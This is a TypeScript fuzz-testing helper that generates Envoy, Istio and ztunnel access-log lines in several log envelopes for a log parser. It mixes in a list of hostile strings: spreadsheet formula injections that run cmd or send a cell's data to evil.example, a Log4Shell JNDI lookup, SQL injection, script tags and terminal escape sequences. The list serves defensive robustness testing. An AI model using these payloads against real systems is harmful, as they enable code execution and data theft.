/**
 * fast-check arbitraries for access-log lines of every format and envelope meshtrail reads, and
 * for the hostile text an attacker can put into them (paths, user agents and headers end up in
 * access logs verbatim).
 *
 * Valid lines are generated from a record of known field values and rendered the way the proxy
 * would print them, so a property can check that a value came back in the field it went into.
 * Values of "structural" fields (addresses, clusters, ids) are drawn from a safe alphabet so the
 * line stays well-formed; the hostile content goes where a test puts it.
 */
import fc from 'fast-check';

// --- hostile text -----------------------------------------------------------------------------

/** Strings that have hurt log pipelines, spreadsheets, terminals and SQL layers before. */
export const HOSTILE_CONSTANTS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\x1b[31mred\x1b[0m',
  '\x1b]0;pwned\x07',
  '\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\',
  '\x1bP+q\x1b\\',
  '\x9b31m',
  '\x1b[2J\x1b[H',
  '\x00',
  'a\x00b',
  '\x7f\x85\u2028\u2029',
  '\u202eevil\u202c',
  '" "',
  '"',
  '\\"',
  '\\',
  '"-" "-"',
  "'; DROP TABLE flows; --",
  "' OR '1'='1",
  '${jndi:ldap://evil.example/a}',
  '%00%0a%0d',
  '<script>alert(1)</script>',
  '{"response_code":200}',
  '] "GET / HTTP/1.1" 200',
  ' src.addr=6.6.6.6:1 ',
  '\ud800',
  '\udc00x\ud83d',
  '😀\u0301',
  '-',
  '',
  ' ',
];

/** One UTF-16 code unit of any value, lone surrogates included. */
const anyCodeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
/** Characters that are structural somewhere: quotes, separators, escapes, controls. */
const structuralChar = fc.constantFrom('"', "'", '\\', ' ', '\t', '\r', '\n', '\0', '\x1b', '\x9b', '[', ']', '{', '}', ',', ';', '=', '%', '|', '-', ':');

/** Hostile text: the constants, random UTF-16 (lone surrogates included), and mixes of both. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_CONSTANTS),
  fc.string({ unit: anyCodeUnit, maxLength: 40 }),
  fc.string({ unit: structuralChar, maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.array(fc.oneof(fc.constantFrom(...HOSTILE_CONSTANTS), fc.string({ maxLength: 8 })), { maxLength: 5 }).map((xs) => xs.join('')),
);

/** Hostile text that cannot contain a line break (what survives the line splitter inside one line). */
export const hostileSingleLine: fc.Arbitrary<string> = hostileString.map((s) => s.replace(/[\n]/g, ''));

/** Random bytes read as latin1 (every byte a character) or as UTF-8 (invalid sequences -> U+FFFD). */
export const randomBytesText: fc.Arbitrary<string> = fc
  .tuple(fc.uint8Array({ maxLength: 600 }), fc.boolean())
  .map(([bytes, latin1]) => Buffer.from(bytes).toString(latin1 ? 'latin1' : 'utf8'));

/** Bytes that are not valid UTF-8: lone continuation bytes, truncated sequences, overlongs, surrogates. */
export const INVALID_UTF8: readonly Buffer[] = [
  Buffer.from([0x80]),
  Buffer.from([0xc3]),
  Buffer.from([0xe2, 0x82]),
  Buffer.from([0xc0, 0xaf]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf5, 0x80, 0x80, 0x80]),
  Buffer.from([0xff, 0xfe]),
];

// --- field values -----------------------------------------------------------------------------

/** A token Envoy prints without spaces or quotes and that is not its "-" placeholder. */
export const token: fc.Arbitrary<string> = fc.stringMatching(/^[a-z0-9][a-z0-9._:|/]{0,14}$/);
const ipPort = fc
  .tuple(fc.integer({ min: 1, max: 254 }), fc.integer({ min: 0, max: 255 }), fc.integer({ min: 1, max: 65535 }))
  .map(([a, b, p]) => `10.${a}.${b}.1:${p}`);
const canonicalTime = fc
  .date({ min: new Date('2000-01-01T00:00:00.000Z'), max: new Date('2099-12-31T23:59:59.999Z'), noInvalidDate: true })
  .map((d) => d.toISOString());

/** The values of one Istio/Envoy TEXT line, as printed (no "-" in any of them). */
export interface TextLineFields {
  start_time: string;
  method: string;
  path: string;
  protocol: string;
  response_code: number;
  response_flags: string;
  response_code_details: string;
  connection_termination_details: string;
  upstream_transport_failure_reason: string;
  bytes_received: number;
  bytes_sent: number;
  duration: number;
  upstream_service_time: number;
  x_forwarded_for: string;
  user_agent: string;
  request_id: string;
  authority: string;
  upstream_host: string;
  upstream_cluster: string;
  upstream_local_address: string;
  downstream_local_address: string;
  downstream_remote_address: string;
  requested_server_name: string;
  route_name: string;
}

/** Field values for a TEXT line: every field well-formed and distinct from "-". */
export const textLineFields: fc.Arbitrary<TextLineFields> = fc.record({
  start_time: canonicalTime,
  method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'CONNECT'),
  path: fc.stringMatching(/^\/[a-z0-9/_.?=&%-]{0,30}$/),
  protocol: fc.constantFrom('HTTP/1.1', 'HTTP/2', 'HTTP/1.0'),
  response_code: fc.integer({ min: 0, max: 599 }),
  response_flags: fc.constantFrom('UH', 'UF', 'NR', 'URX', 'UH,UF', 'DC'),
  response_code_details: fc.constantFrom('via_upstream', 'route_not_found', 'rbac_access_denied_matched_policy[none]'),
  connection_termination_details: token,
  upstream_transport_failure_reason: fc.stringMatching(/^[a-z][a-z_ ]{0,20}$/),
  bytes_received: fc.nat({ max: 1e9 }),
  bytes_sent: fc.nat({ max: 1e12 }),
  duration: fc.nat({ max: 1e6 }),
  upstream_service_time: fc.nat({ max: 1e6 }),
  x_forwarded_for: ipPort.map((a) => a.split(':')[0]!),
  user_agent: fc.stringMatching(/^[A-Za-z0-9/.;() _-]{1,30}$/).filter((s) => s !== '-'),
  request_id: fc.uuid(),
  authority: fc.stringMatching(/^[a-z][a-z0-9.-]{0,20}(:[0-9]{2,5})?$/),
  upstream_host: ipPort,
  upstream_cluster: fc.constantFrom('inbound|8080||', 'outbound|8080||orders.shop.svc.cluster.local', 'PassthroughCluster', 'BlackHoleCluster'),
  upstream_local_address: ipPort,
  downstream_local_address: ipPort,
  downstream_remote_address: ipPort,
  requested_server_name: fc.constantFrom('outbound_.8080_._.orders.shop.svc.cluster.local', 'api.example.com'),
  route_name: fc.constantFrom('default', 'allow_any', 'r1'),
});

/** TEXT layouts the generator renders (the oldest Mixer layouts are covered by unit tests). */
export const TEXT_LAYOUTS = ['envoy-text', 'istio-text-1.6', 'istio-text-1.9'] as const;
export type TextLayout = (typeof TEXT_LAYOUTS)[number];

/** Renders `f` as Envoy would print it in `layout` (no escaping, like Envoy). */
export function renderTextLine(f: TextLineFields, layout: TextLayout): string {
  const head = `[${f.start_time}] "${f.method} ${f.path} ${f.protocol}" ${f.response_code} ${f.response_flags}`;
  const mid =
    layout === 'istio-text-1.9'
      ? ` ${f.response_code_details} ${f.connection_termination_details} "${f.upstream_transport_failure_reason}"`
      : layout === 'istio-text-1.6'
        ? ` "${f.upstream_transport_failure_reason}"`
        : '';
  const nums = ` ${f.bytes_received} ${f.bytes_sent} ${f.duration} ${f.upstream_service_time}`;
  const quoted = ` "${f.x_forwarded_for}" "${f.user_agent}" "${f.request_id}" "${f.authority}" "${f.upstream_host}"`;
  const tail =
    layout === 'envoy-text'
      ? ''
      : ` ${f.upstream_cluster} ${f.upstream_local_address} ${f.downstream_local_address} ${f.downstream_remote_address} ${f.requested_server_name} ${f.route_name}`;
  return head + mid + nums + quoted + tail;
}

/** A TEXT line with its fields and layout. */
export const textLine = fc
  .tuple(textLineFields, fc.constantFrom(...TEXT_LAYOUTS))
  .map(([fields, layout]) => ({ fields, layout, line: renderTextLine(fields, layout) }));

/** Istio JSON access-log records (the `EnvoyJSONLogFormatIstio` keys, values as Envoy prints them). */
export const jsonLineFields = textLineFields.map((f) => ({
  start_time: f.start_time,
  method: f.method,
  path: f.path,
  protocol: f.protocol,
  response_code: f.response_code,
  response_flags: f.response_flags,
  response_code_details: f.response_code_details,
  connection_termination_details: f.connection_termination_details,
  upstream_transport_failure_reason: f.upstream_transport_failure_reason,
  bytes_received: f.bytes_received,
  bytes_sent: f.bytes_sent,
  duration: f.duration,
  upstream_service_time: String(f.upstream_service_time),
  x_forwarded_for: f.x_forwarded_for,
  user_agent: f.user_agent,
  request_id: f.request_id,
  authority: f.authority,
  upstream_host: f.upstream_host,
  upstream_cluster: f.upstream_cluster,
  upstream_local_address: f.upstream_local_address,
  downstream_local_address: f.downstream_local_address,
  downstream_remote_address: f.downstream_remote_address,
  requested_server_name: f.requested_server_name,
  route_name: f.route_name,
}));
/** The value type of an arbitrary. */
export type ValueOf<A> = A extends fc.Arbitrary<infer T> ? T : never;
export type JsonLineFields = ValueOf<typeof jsonLineFields>;

/** An Istio JSON access-log line with its record. */
export const jsonLine = jsonLineFields.map((record) => ({ record, line: JSON.stringify(record) }));

/** Rust's `{:?}` rendering of a string, as ztunnel prints quoted values. */
export function rustDebug(s: string): string {
  let out = '"';
  for (const ch of s) {
    const c = ch.codePointAt(0)!;
    if (ch === '"') out += '\\"';
    else if (ch === '\\') out += '\\\\';
    else if (ch === '\n') out += '\\n';
    else if (ch === '\r') out += '\\r';
    else if (ch === '\t') out += '\\t';
    else if (ch === '\0') out += '\\0';
    else if (c < 0x20 || (c >= 0x7f && c <= 0x9f) || (c >= 0xd800 && c <= 0xdfff)) out += `\\u{${c.toString(16)}}`;
    else out += ch;
  }
  return `${out}"`;
}

/** The values of one ztunnel access-log record. */
export interface ZtunnelFields {
  time: string;
  src_addr: string;
  dst_addr: string;
  src_identity: string;
  dst_identity: string;
  direction: 'inbound' | 'outbound';
  bytes_sent: number;
  bytes_recv: number;
  duration_ms: number;
  error: string;
}

const spiffe = fc.tuple(token, token).map(([ns, sa]) => `spiffe://cluster.local/ns/${ns.replace(/[^a-z0-9]/g, 'x')}/sa/${sa.replace(/[^a-z0-9]/g, 'x')}`);

/** Field values for a ztunnel record. */
export const ztunnelFields: fc.Arbitrary<ZtunnelFields> = fc.record({
  time: canonicalTime,
  src_addr: ipPort,
  dst_addr: ipPort,
  src_identity: spiffe,
  dst_identity: spiffe,
  direction: fc.constantFrom('inbound' as const, 'outbound' as const),
  bytes_sent: fc.nat({ max: 1e9 }),
  bytes_recv: fc.nat({ max: 1e9 }),
  duration_ms: fc.nat({ max: 1e6 }),
  error: fc.constantFrom('connection reset', 'timed out', 'http status: 503 Service Unavailable'),
});

/** ztunnel's plain layout (tab-separated head, `k=v` fields, Rust Debug strings). */
export function renderZtunnelPlain(f: ZtunnelFields): string {
  return (
    `${f.time}\tinfo\taccess\tconnection complete\tsrc.addr=${f.src_addr} dst.addr=${f.dst_addr} ` +
    `src.identity=${rustDebug(f.src_identity)} dst.identity=${rustDebug(f.dst_identity)} direction=${rustDebug(f.direction)} ` +
    `bytes_sent=${f.bytes_sent} bytes_recv=${f.bytes_recv} duration=${rustDebug(`${f.duration_ms}ms`)} error=${rustDebug(f.error)}`
  );
}

/** ztunnel's `LOG_FORMAT=json` layout. */
export function renderZtunnelJson(f: ZtunnelFields): string {
  return JSON.stringify({
    level: 'info', time: f.time, scope: 'access', message: 'connection complete',
    'src.addr': f.src_addr, 'dst.addr': f.dst_addr, 'src.identity': f.src_identity, 'dst.identity': f.dst_identity,
    direction: f.direction, bytes_sent: f.bytes_sent, bytes_recv: f.bytes_recv, duration: `${f.duration_ms}ms`, error: f.error,
  });
}

// --- envelopes --------------------------------------------------------------------------------

export const ENVELOPES = ['none', 'cri', 'docker-json', 'fluent-bit', 'vector'] as const;
export type EnvelopeKind = (typeof ENVELOPES)[number];

/** Wraps a bare line the way a container runtime or a log shipper would. */
export function wrap(line: string, kind: EnvelopeKind): string {
  switch (kind) {
    case 'none':
      return line;
    case 'cri':
      return `2026-01-15T02:59:59.123456789Z stdout F ${line}`;
    case 'docker-json':
      return JSON.stringify({ log: `${line}\n`, stream: 'stdout', time: '2026-01-15T02:59:59.123456789Z' });
    case 'fluent-bit':
      return JSON.stringify({ log: line, kubernetes: { pod_name: 'orders-1', namespace_name: 'shop', container_name: 'istio-proxy', labels: { app: 'orders' } } });
    case 'vector':
      return JSON.stringify({ message: line, source_type: 'kubernetes_logs', kubernetes: { pod_name: 'orders-1', pod_namespace: 'shop', container_name: 'istio-proxy' } });
  }
}

/** Any valid bare line of any built-in format. */
export const anyValidBareLine: fc.Arbitrary<string> = fc.oneof(
  textLine.map((l) => l.line),
  jsonLine.map((l) => l.line),
  ztunnelFields.map(renderZtunnelPlain),
  ztunnelFields.map(renderZtunnelJson),
);

/** Any valid line of any format, in any envelope. */
export const anyValidLine: fc.Arbitrary<string> = fc.tuple(anyValidBareLine, fc.constantFrom(...ENVELOPES)).map(([l, e]) => wrap(l, e));

/** A valid line with hostile text inserted at a random place, or a span replaced/deleted. */
export const mutatedLine: fc.Arbitrary<string> = fc
  .tuple(anyValidLine, fc.array(fc.tuple(fc.nat(), fc.nat({ max: 8 }), hostileSingleLine), { minLength: 1, maxLength: 4 }))
  .map(([line, edits]) => {
    let s = line;
    for (const [at, del, ins] of edits) {
      const i = s.length === 0 ? 0 : at % (s.length + 1);
      s = s.slice(0, i) + ins + s.slice(i + del);
    }
    return s;
  });

/** Everything `processLine` may be handed: valid, mutated, random bytes, hostile text. */
export const anyInputLine: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: anyValidLine, weight: 2 },
  { arbitrary: mutatedLine, weight: 4 },
  { arbitrary: randomBytesText, weight: 2 },
  { arbitrary: hostileString, weight: 1 },
  { arbitrary: fc.tuple(anyValidLine, fc.constantFrom(...ENVELOPES)).map(([l, e]) => wrap(l, e)), weight: 1 },
);

// --- numbers and times beyond range -----------------------------------------------------------

/** Decimal digit strings up to 25 digits: many beyond 2^53, some with leading zeros. */
export const bigDigits: fc.Arbitrary<string> = fc.oneof(
  fc.stringMatching(/^[0-9]{1,25}$/),
  fc.constantFrom('9007199254740991', '9007199254740992', '9007199254740993', '18446744073709551616', '0000000000000001'),
);

/** JSON number literals a hostile line may carry for a count: huge, fractional, negative, exponents. */
export const hostileJsonNumber: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('1e400', '-1e400', '9007199254740993', '9007199254740992', '1e21', '-0', '0.5', '-1', '200.0', '2e2', '1E308'),
  bigDigits,
);

/** Timestamps that are malformed or out of range, plus impossible calendar dates. */
export const hostileTimestamp: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '0000-01-01T00:00:00.000Z', '99999-01-01T00:00:00.000Z', '+099999-01-01T00:00:00.000Z', '-000001-01-01T00:00:00.000Z',
    '2026-13-45T00:00:00.000Z', '2026-00-00T00:00:00Z', '2026-01-01T25:61:61Z', '2026-01-01', 'yesterday', '1e400', '',
  ),
  fc.tuple(fc.integer({ min: 0, max: 99999 }), fc.integer({ min: 0, max: 99 }), fc.integer({ min: 0, max: 99 })).map(
    ([y, m, d]) => `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}T00:00:00.000Z`,
  ),
);

// --- run settings -----------------------------------------------------------------------------

/**
 * fast-check parameters for the fuzz suite: a bounded number of runs and a fixed seed, so CI is
 * repeatable and the whole suite stays well under two minutes. fast-check prints the seed and
 * the counterexample path on failure. `MESHTRAIL_FUZZ_SEED=<n>` replays or varies the seed;
 * `MESHTRAIL_FUZZ_RUNS=<factor>` multiplies the run counts for a longer local session.
 */
export function fuzzParams(numRuns: number): fc.Parameters<unknown> {
  const seedEnv = process.env.MESHTRAIL_FUZZ_SEED;
  const seed = seedEnv !== undefined && seedEnv !== '' && Number.isInteger(Number(seedEnv)) ? Number(seedEnv) : 0x6d657368;
  const factor = Number(process.env.MESHTRAIL_FUZZ_RUNS ?? '1');
  const runs = Number.isFinite(factor) && factor > 0 ? Math.max(1, Math.round(numRuns * factor)) : numRuns;
  return { numRuns: runs, seed, endOnFailure: true };
}
